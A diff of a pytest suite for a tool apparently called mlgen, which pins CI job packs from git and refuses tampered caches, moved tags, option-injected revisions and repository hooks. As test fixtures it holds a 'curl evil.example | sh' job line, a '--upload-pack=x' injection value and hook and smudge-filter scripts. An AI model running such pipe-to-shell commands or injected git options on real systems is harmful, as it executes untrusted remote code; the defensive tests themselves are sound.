@@ -86,9 +86,7 @@ def test_without_cache_and_repository_it_is_told(pinned: Path, mlgen: Mlgen, tmp
     assert "cannot be had" in done.err
 
 
-def test_a_moved_tag_is_refused_until_it_is_updated(
-    pinned: Path, project: Path, mlgen: Mlgen, tmp_path: Path
-) -> None:
+def test_a_moved_tag_is_refused_until_it_is_updated(pinned: Path, project: Path, mlgen: Mlgen, tmp_path: Path) -> None:
     write(pinned, {"jobs/lint.yaml": "run: curl evil.example | sh\n"})
     git(pinned, "add", "-A")
     git(pinned, "commit", "-q", "-m", "moved")
@@ -107,9 +105,7 @@ def test_a_moved_tag_is_refused_until_it_is_updated(
 
 
 @pytest.mark.parametrize("name", ["spec.yaml", "jobs/lint.yaml"])
-def test_a_cache_that_was_tampered_with_is_refused(
-    pinned: Path, project: Path, mlgen: Mlgen, name: str
-) -> None:
+def test_a_cache_that_was_tampered_with_is_refused(pinned: Path, project: Path, mlgen: Mlgen, name: str) -> None:
     kept = Path(cache.folder(folder_digest(str(pinned))))
     with (kept / name).open("a") as file:
         file.write("# evil\n")
@@ -121,9 +117,7 @@ def test_a_cache_that_was_tampered_with_is_refused(
     assert mlgen("check").code == 0
 
 
-def test_an_update_takes_the_newest_release_and_says_what_changed(
-    pinned: Path, project: Path, mlgen: Mlgen
-) -> None:
+def test_an_update_takes_the_newest_release_and_says_what_changed(pinned: Path, project: Path, mlgen: Mlgen) -> None:
     first = git(pinned, "rev-parse", "v1.0.0")[:12]
     commit = second(pinned)
     git(pinned, "tag", "v3.0.0-rc1")
@@ -156,7 +150,7 @@ def test_to_takes_any_revision(pinned: Path, project: Path, mlgen: Mlgen) -> Non
     assert f"@{commit}" in (project / "mlgen.yaml").read_text()
     assert mlgen("compile").code == 0
     assert mlgen("pack", "update").out == "mlgen: every pack is current\n", "a commit stays"
-    assert mlgen("pack", "diff", "--to", "v1.0.0").out.count("-    container: python:3.12-slim\n") == 3
+    assert mlgen("pack", "diff", "--to", "v1.0.0").out.count("-    container: python:3.12-slim\n") == 4
     assert mlgen("pack", "update", "--to", "v1.0.0").code == 0
     done = mlgen("pack", "update", "--to", "--upload-pack=x")
     assert done.code == 2
@@ -282,7 +276,9 @@ def test_nothing_of_the_repository_is_run(
 ) -> None:
     """No hook, no filter, no prompt; and the variables of an outer git (a pre-commit hook) do not reach it."""
     evil = tmp_path / "ran"
-    hooks = write(tmp_path / "hooks", {n: f"#!/bin/sh\ntouch {evil}\n" for n in ("post-checkout", "reference-transaction")})
+    hooks = write(
+        tmp_path / "hooks", dict.fromkeys(("post-checkout", "reference-transaction"), f"#!/bin/sh\ntouch {evil}\n")
+    )
     for hook in hooks.iterdir():
         hook.chmod(0o755)
     config = write(tmp_path, {"gitconfig": f'[core]\n hooksPath = {hooks}\n[filter "x"]\n smudge = touch {evil}\n'})
